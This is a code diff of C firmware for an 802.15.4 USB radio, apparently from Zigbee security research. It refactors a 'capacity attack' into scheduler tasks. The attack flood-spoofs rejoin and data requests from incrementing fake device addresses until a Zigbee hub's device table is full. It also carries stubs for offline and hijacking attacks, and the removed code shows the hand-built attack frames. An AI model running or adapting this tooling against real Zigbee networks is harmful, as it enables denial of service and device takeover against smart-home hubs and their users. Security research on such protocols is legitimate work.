@@ -5,128 +5,111 @@
  * Copyright 2021 Jincheng Wang
  *
  */
+#include <util/atomic.h>
+
 #include "attack.h"
+#include "frame.h"
+#include "regs.h"
+#include "sched.h"
+#include "stats.h"
 
 extern uint8_t rejoin_full_flag;
 extern uint8_t beacon_request_flag;
 extern uint8_t tc_rejoin_request_flag;
 extern uint8_t data_request_flag;
 
-uint8_t count = 0;
-unsigned char length = 0;
-uint16_t FCF = 0;
-unsigned char seqno = 0;
-unsigned char cmd = 0;
 /********  Transciver Library ********/
 /**
  * @brief  set_rx_aack: Set the required registers used for RX_AACK mode, then transfer the state to RX_AACK
  * @note   
  * @param  aack_config: Config used to set RX_AACK
- * @retval None
+ * @retval 0 if the transceiver didn't get there in time
  */
-void set_rx_aack(rx_aack_config* aack_config)
+bool set_rx_aack(rx_aack_config* aack_config)
 {
 	// This function is mostly called when there is packets being sent. So first make sure that current packet has been sent out.
-	uint8_t reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-	while(reg_status != TRX_STATUS_TX_ARET_ON)
-	{
-		reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-		_delay_us(REG_CHANGE_DELAY);
-	}
+	if (!aack_config->pass_ARET_check && !tx_wait_done())
+		return 0;
 	// In order to reply an ACK automaticlly, we need to first transit to PLL_ON, then transit into RX_AACK state
-	change_state(TRX_CMD_FORCE_PLL_ON);
-	reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-	while(reg_status != TRX_STATUS_PLL_ON) {
-		reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-		_delay_us(REG_CHANGE_DELAY);
-	}
-	
-	// Here we need to configure address for AACK, then transist into AACK mode
-	reg_write(REG_SHORT_ADDR_0, aack_config->target_short_addr.addr_bytes[0]);
-	reg_write(REG_SHORT_ADDR_1, aack_config->target_short_addr.addr_bytes[1]);
-	reg_write(REG_PAN_ID_0, aack_config->target_pan_id.addr_bytes[0]);
-	reg_write(REG_PAN_ID_1, aack_config->target_pan_id.addr_bytes[1]);
+	if (!change_state_wait(TRX_CMD_FORCE_PLL_ON))
+		return 0;
 
+	// Here we need to configure address for AACK, then transist into AACK mode.
 	// Set registers used by RX_AACK. Please refer to Page 55 in AT86RF231 spec.
-	reg_write(0x0c, 0x00);
-	reg_write(0x17, 0x02); // AACK_ACK_TIME: Send ACK quickly. Default value for 0x17: 0x00
-	reg_write(0x2c, 0x38);
-	if(!aack_config->dis_ack) {
-		reg_write(0x2e, 0xc2);
-	}
-	else {
-		reg_write(0x2e, 0xc2 | AACK_DIS_ACK);
-	}
-	if(aack_config->pending) {
-		reg_write(0x2e, reg_read(0x2e) | AACK_SET_PD);
-	}
+	// Only the registers whose value changed since the last time are written.
+	uint8_t csma_seed_1 = 0xc2;
+	if (aack_config->dis_ack)
+		csma_seed_1 |= AACK_DIS_ACK;
+	if (aack_config->pending)
+		csma_seed_1 |= AACK_SET_PD;
+	const struct reg_set aack[] = {
+		{ REG_SHORT_ADDR_0,	aack_config->target_short_addr.addr_bytes[0] },
+		{ REG_SHORT_ADDR_1,	aack_config->target_short_addr.addr_bytes[1] },
+		{ REG_PAN_ID_0,		aack_config->target_pan_id.addr_bytes[0] },
+		{ REG_PAN_ID_1,		aack_config->target_pan_id.addr_bytes[1] },
+		{ REG_TRX_CTRL_2,	0x00 },
+		{ REG_XAH_CTRL_1,	0x02 },	// AACK_ACK_TIME: Send ACK quickly. Default value for 0x17: 0x00
+		{ REG_XAH_CTRL_0,	0x38 },
+		{ REG_CSMA_SEED_1,	csma_seed_1 },
+	};
+	reg_batch(aack, sizeof(aack)/sizeof(*aack));
 
-	// Transist to RX_AACK_ON mode
-	change_state(TRX_CMD_RX_AACK_ON);
-	reg_status = reg_read(REG_TRX_STATUS) & TRX_STATUS_MASK;
-	// Finally, make sure the state transition is right
-	while((reg_status != TRX_CMD_RX_AACK_ON) && (reg_status != TRX_STATUS_BUSY_RX_AACK))
-	{
-		reg_status = reg_read(REG_TRX_STATUS) & TRX_STATUS_MASK;
-		_delay_us(REG_CHANGE_DELAY);
-	}
+	// Frames RX_AACK drops still end up in the frame buffer, without us noticing
+	frame_overwritten(MAX_PSDU);
+
+	// Transist to RX_AACK_ON mode, receiving right away is fine too
+	return change_state_wait(TRX_CMD_RX_AACK_ON);
 }
 
 /**
- * @brief  send_zbee_cmd: This is the framework for ATUSB to send packets
- * @note   
+ * @brief  send_zbee_cmd_at: This is the framework for ATUSB to send packets
+ * @note   The frame is uploaded first, so only SLP_TR waits for the deadline
+ * @param  when:     	 Input: timer_read() tick to start transmitting at, 0 for now
  * @param  layer:    	 Input: 1: MAC-Layer Command 2: NWK-Layer Command 3: APS-Layer Command
  * @param  command:  	 Input: The command ID which we want to send
  * @param  security: 	 Input: Security enable flags used in the frame
  * @param  dst_addr: 	 Input: dest addr information
  * @param  src_addr: 	 Input: src  addr information
  * @param  aack_config:  Input: user-defined aack_config
- * @retval None
+ * @retval 0 if the transceiver got stuck on the way
  */
  
-void send_zbee_cmd(uint8_t command, uint8_t security,
+bool send_zbee_cmd_at(uint64_t when, uint8_t command, uint8_t security,
 				   ieee802154_addr* dst_addr, ieee802154_addr* src_addr,
 				   rx_aack_config* aack_config)
 {
-	uint8_t reg_status = 0;
+	uint8_t frame[FRAME_MAX];
+	uint8_t size;
+	// 0: Lay out the frame before touching the transceiver
+	size = frame_build(frame, command, 0xff, dst_addr, src_addr);
+	if (!size)
+		return 0;
 	// 1: Change Transciver state to TRX_CMD_FORCE_PLL_ON
-	change_state(TRX_CMD_FORCE_PLL_ON);
-	while((reg_read(REG_TRX_STATUS) & TRX_STATUS_MASK) != TRX_STATUS_PLL_ON) {
-		_delay_us(REG_CHANGE_DELAY);
-	}
-	// 2: Send Packets
-	spi_begin();
-	spi_send(AT86RF230_BUF_WRITE);
-	// Finally we applied hard-coded methods.
-	switch (command) {
-		case ZBEE_MAC_CMD_BEACON_RQ:
-			send_beacon_request(security, dst_addr, src_addr);
-			break;
-		case ZBEE_MAC_CMD_DATA_RQ :
-			send_data_request(security, dst_addr, src_addr);
-			break;
-		case ZBEE_MAC_CMD_ORPHAN_NOTIF :
-			send_orphan_notification(security, dst_addr, src_addr);
-			break;
-		case ZBEE_NWK_CMD_REJOIN_RQ :
-			send_rejoin_request(security, dst_addr, src_addr);
-			break;
-		default :
-			break;
-	}
-	spi_end();
+	if (!change_state_wait(TRX_CMD_FORCE_PLL_ON))
+		return 0;
+	// 2: Upload what the frame buffer doesn't hold yet
+	frame_stage(frame, size);
 	// 3: Send the packet
-	change_state(TRX_STATUS_TX_ARET_ON);
-	while(reg_status != TRX_STATUS_TX_ARET_ON)
+	if (!change_state_wait(TRX_CMD_TX_ARET_ON))
+		return 0;
+	// 4: Start it now, or exactly at the deadline
+	if (when)
 	{
-		reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-		_delay_us(REG_CHANGE_DELAY);
+		timer_at(when, slp_tr);
+		timer_wait(slp_tr);
 	}
-	slp_tr();
-	// 4: Determine and configure the afterwards transciver mode
+	else
+	{
+		slp_tr();
+	}
+	// ATUSB_STATS may clear the counters from the USB interrupt meanwhile
+	ATOMIC_BLOCK(ATOMIC_RESTORESTATE)
+		stats.injected++;
+	// 5: Determine and configure the afterwards transciver mode
 	if (aack_config->aack_flag)
 	{
-		set_rx_aack(aack_config);
+		if (!set_rx_aack(aack_config))
+			return 0;
 	}
 	else
 	{
@@ -134,143 +117,152 @@ void send_zbee_cmd(uint8_t command, uint8_t security,
 		change_state(TRX_CMD_RX_ON);
 		// change_state(TRX_CMD_PLL_ON);
 	}
+	return 1;
 }
 
-static uint8_t spi_send_blocks(void *data, uint8_t size)
+bool send_zbee_cmd(uint8_t command, uint8_t security,
+				   ieee802154_addr* dst_addr, ieee802154_addr* src_addr,
+				   rx_aack_config* aack_config)
 {
-	uint8_t byte_count = 0 ;
-	char* pdata = (char*)data;
-	for(; byte_count < size; byte_count ++) {
-		spi_send(*(pdata+byte_count));
-	}
-
-	assert(byte_count == size);
-	return byte_count;
+	return send_zbee_cmd_at(0, command, security, dst_addr, src_addr, aack_config);
 }
+
 /********  END of Transciver Library *******/
 
-/********  Command Library *******/
-// MAC Layer Command
-void send_beacon_request(uint8_t security, ieee802154_addr* dst_addr, ieee802154_addr* src_addr)
+/********  Attack-Specific Functions *******/
+uint8_t offline_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr, uint64_t random_addr)
 {
-	count = 0;
-	length = 8 + 2;
-	FCF = 0x0803;		
-	seqno = 0xff;
-	// For beacon request, the dst addr and dst pan id is 0xffff
-	uint16_t const_dst_addr = 0xffff;
-	cmd = 0x07;
-
-	count += spi_send_blocks(&length, sizeof(length));
-	count += spi_send_blocks(&FCF, sizeof(FCF));
-	count += spi_send_blocks(&seqno, sizeof(seqno));
-	count += spi_send_blocks(&const_dst_addr, sizeof(const_dst_addr));
-	count += spi_send_blocks(&const_dst_addr, sizeof(const_dst_addr));
-	count += spi_send_blocks(&cmd, sizeof(cmd));
-
-	assert(count == length - 1);
+	// Please check attack_13.c
+	return 0;
 }
-void send_data_request(uint8_t security, ieee802154_addr* dst_addr, ieee802154_addr* src_addr)
+void offline_attack_start(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr, uint64_t random_addr, void (*done)(uint8_t res))
 {
-	count = 0;
-	length = 10 + 2;
-	FCF = 0x8863;
-	seqno = 0xff;
-	cmd = 0x04;
-
-	count += spi_send_blocks(&length, sizeof(length));
-	count += spi_send_blocks(&FCF, sizeof(FCF));
-	count += spi_send_blocks(&seqno, sizeof(seqno));
-	count += spi_send_blocks(&dst_addr->pan, sizeof(dst_addr->pan));
-	count += spi_send_blocks(&dst_addr->short_addr, sizeof(dst_addr->short_addr));
-	count += spi_send_blocks(&src_addr->short_addr, sizeof(src_addr->short_addr));
-	count += spi_send_blocks(&cmd, sizeof(cmd));
-
-	assert(count == length - 1);
+	// Please check attack_13.c
+	done(0);
 }
-void send_orphan_notification(uint8_t security, ieee802154_addr* dst_addr, ieee802154_addr* src_addr)
+uint8_t hijacking_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr, uint64_t random_addr)
 {
-	count = 0;
-	length = 16 + 2;
-	FCF = 0xc843;
-	seqno = 0xff;
-	cmd = 0x06;
-	uint16_t broad_addr = 0xffff;
+	// Please check attac_14.c
+	return 0;
+}
+
+// State of the capacity attack between its steps
+static struct capacity {
+	struct task task;
+	ieee802154_addr *dst_addr;
+	ieee802154_addr ghost_addr;
+	rx_aack_config aack_config;
+	int32_t trial_count;
+	void (*done)(uint8_t res);
+} capacity;
 
-	count += spi_send_blocks(&length, sizeof(length));
-	count += spi_send_blocks(&FCF, sizeof(FCF));
-	count += spi_send_blocks(&seqno, sizeof(seqno));
-	count += spi_send_blocks(&broad_addr, sizeof(broad_addr));
-	count += spi_send_blocks(&broad_addr, sizeof(broad_addr));
-	count += spi_send_blocks(&src_addr->long_addr, sizeof(src_addr->long_addr));
-	count += spi_send_blocks(&cmd, sizeof(cmd));
+static void capacity_rejoin(void *user);
 
-	assert(count == length - 1);
+static void capacity_next(struct capacity *c)
+{
+	c->trial_count += 1;
+	// Update the MAC address by adding 1.
+	c->ghost_addr.long_addr += 1;
+	c->ghost_addr.short_addr += 1;
+	c->aack_config.target_short_addr.addr = c->ghost_addr.short_addr;
+	// Sleep for a preiod
+	c->task.fn = capacity_rejoin;
+	task_in(&c->task, REJOIN_REQUEST_INTERVAL * 1000UL);
 }
-// NWK Layer Command
-void send_rejoin_request(uint8_t security, ieee802154_addr* dst_addr, ieee802154_addr* src_addr)
+
+static void capacity_data_rq(void *user)
 {
-	count = 0;
-	length = 27 + 2;
-	FCF = 0x8861;		
-	seqno = 0xff;
+	struct capacity *c = user;
 
-	uint16_t NWK_FCF = 0x1009;
-	uint8_t radius = 0x01;
-	uint8_t nwk_seq = 0xff;
+	send_zbee_cmd(ZBEE_MAC_CMD_DATA_RQ, 0, c->dst_addr, &c->ghost_addr, &c->aack_config);
+	capacity_next(c);
+}
 
-	uint8_t capability_info = 0x80;
-	if (src_addr->device_type < 2)
-	{
-		// Here we send rejoin request in represnetative as a Full-Function Device
-		capability_info |= 0x02;
+static void capacity_rejoin(void *user)
+{
+	struct capacity *c = user;
+
+	// If too many trials have been done, then stop the capacility attack.
+	if (c->trial_count >= MAX_REJOIN_REQUEST_NUM) {
+		c->done(0);
+		return;
+	}
+	// The rejoin_full_flag is set by classify_frame()
+	if (rejoin_full_flag) {
+		c->done(1);
+		return;
 	}
-	if (src_addr->rx_when_idle)
+	send_zbee_cmd(ZBEE_NWK_CMD_REJOIN_RQ, 0, c->dst_addr, &c->ghost_addr, &c->aack_config);
+	if (c->ghost_addr.device_type == 2)
 	{
-		capability_info |= 0x08;
+		// Send Data Request
+		c->task.fn = capacity_data_rq;
+		task_in(&c->task, 100);
+		return;
 	}
+	capacity_next(c);
+}
 
-	cmd = 0x06;
-
-	count += spi_send_blocks(&length, sizeof(length));
-
-	// MAC Layer
-	count += spi_send_blocks(&FCF, sizeof(FCF));
-	count += spi_send_blocks(&seqno, sizeof(seqno));
-	count += spi_send_blocks(&dst_addr->pan, sizeof(dst_addr->pan));
-	count += spi_send_blocks(&dst_addr->short_addr, sizeof(dst_addr->short_addr));
-	count += spi_send_blocks(&src_addr->short_addr, sizeof(src_addr->short_addr));
-
-	// NWK Layer
-	count += spi_send_blocks(&NWK_FCF, sizeof(NWK_FCF));
-	count += spi_send_blocks(&dst_addr->short_addr, sizeof(dst_addr->short_addr));
-	count += spi_send_blocks(&src_addr->short_addr, sizeof(src_addr->short_addr));
-	count += spi_send_blocks(&radius, sizeof(radius));
-	count += spi_send_blocks(&nwk_seq, sizeof(nwk_seq));
-	count += spi_send_blocks(&src_addr->long_addr, sizeof(src_addr->long_addr));
+/**
+ * @brief  Start the first attack: Capacity Attack, as scheduler tasks
+ * @note   Each round is a task; the CPU sleeps in sched_poll() between them
+ * @param  dst_addr:  The target hub's information.
+ * @param  random_addr
+ * @param  type: type = 2; ZED;	type = 1: ZR; type = 0: ZC
+ * @param  done: Called with 1 if succeed; 0 if the number of sent TC rejoin request exceeds the bound.
+ * @retval None
+ */
+void capacity_attack_start(ieee802154_addr* dst_addr, uint64_t random_addr, uint8_t type, void (*done)(uint8_t res))
+{
+	struct capacity *c = &capacity;
 
-	// NWK Payload
-	count += spi_send_blocks(&cmd, sizeof(cmd));
-	count += spi_send_blocks(&capability_info, sizeof(capability_info));
+	task_cancel(&c->task);
+	c->dst_addr = dst_addr;
+	c->done = done;
+	c->trial_count = 0;
+	c->ghost_addr = *dst_addr;
+	c->ghost_addr.short_addr  = 0x0001;
+	c->ghost_addr.long_addr = random_addr;
+	c->ghost_addr.device_type = type;
 
-	assert(count == length - 1);
+	if (type == 2)
+	{
+		// Pretend to be Sleepy End Device
+		c->ghost_addr.rx_when_idle = 0;
+	}
+	else
+	{
+		c->ghost_addr.rx_when_idle = 1;
+	}
+	c->aack_config = (rx_aack_config) {};
+	c->aack_config.aack_flag = 1;
+	c->aack_config.dis_ack = 0;
+	c->aack_config.pending = 0;
+	c->aack_config.target_short_addr.addr = c->ghost_addr.short_addr;
+	c->aack_config.target_pan_id.addr = c->ghost_addr.pan;
 
+	c->task.fn = capacity_rejoin;
+	c->task.user = c;
+	task_in(&c->task, 0);
 }
-/********  END of Command Library *******/
-/********  Attack-Specific Functions *******/
-uint8_t offline_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr, uint64_t random_addr)
+
+void attack_stop(void)
 {
-	// Please check attack_13.c
-	return 0;
+	task_cancel(&capacity.task);
 }
-uint8_t hijacking_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr, uint64_t random_addr)
+
+static uint8_t attack_result;
+static uint8_t attack_finished;
+
+static void attack_done(uint8_t res)
 {
-	// Please check attac_14.c
-	return 0;
+	attack_result = res;
+	attack_finished = 1;
 }
+
 /**
  * @brief  Implement the first attack: Capacity Attack
- * @note   
+ * @note   Runs the scheduler until the attack is over
  * @param  dst_addr:  The target hub's information.
  * @param  random_addr
  * @param  type: type = 2; ZED;	type = 1: ZR; type = 0: ZC
@@ -278,50 +270,10 @@ uint8_t hijacking_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr
  */
 uint8_t capacity_attack(ieee802154_addr* dst_addr, uint64_t random_addr, uint8_t type)
 {
-	int32_t trial_count = 0;
-	ieee802154_addr ghost_addr = *dst_addr;
-	ghost_addr.short_addr  = 0x0001;
-	ghost_addr.long_addr = random_addr;
-	ghost_addr.device_type = type;
-	ghost_addr.rx_when_idle = 1;
-
-	if (type == 2)
-	{
-		// Pretend to be Sleepy End Device
-		ghost_addr.rx_when_idle = 0;
-	}
-	else
-	{
-		ghost_addr.rx_when_idle = 1;
-	}
-	rx_aack_config aack_config = {};
-	aack_config.aack_flag = 1;
-	aack_config.dis_ack = 0;
-	aack_config.pending = 0;
-	aack_config.target_short_addr.addr = ghost_addr.short_addr;
-	aack_config.target_pan_id.addr = ghost_addr.pan;
-	// The rejoin_full_flag is modified in processing_incoming_packets()
-	while(!rejoin_full_flag)
-	{
-		send_zbee_cmd(ZBEE_NWK_CMD_REJOIN_RQ, 0, dst_addr, &ghost_addr, &aack_config);
-		if (type == 2)
-		{
-			// Send Data Request
-			_delay_us(100);
-			send_zbee_cmd(ZBEE_MAC_CMD_DATA_RQ, 0, dst_addr, &ghost_addr, &aack_config);
-		}
-		// Delay for a preiod
-		_delay_ms(REJOIN_REQUEST_INTERVAL);
-		trial_count += 1;
-		// Update the MAC address by adding 1.
-		ghost_addr.long_addr += 1;
-		ghost_addr.short_addr += 1;
-		aack_config.target_short_addr.addr = ghost_addr.short_addr;
-		// If too many trials have been done, then stop the capacility attack.
-		if (trial_count >= MAX_REJOIN_REQUEST_NUM) {
-			return 0;
-		}
-	}
-	return 1;
+	attack_finished = 0;
+	capacity_attack_start(dst_addr, random_addr, type, attack_done);
+	while (!attack_finished)
+		sched_poll();
+	return attack_result;
 }
 /********  END of Attack-Specific Library *******/
\ No newline at end of file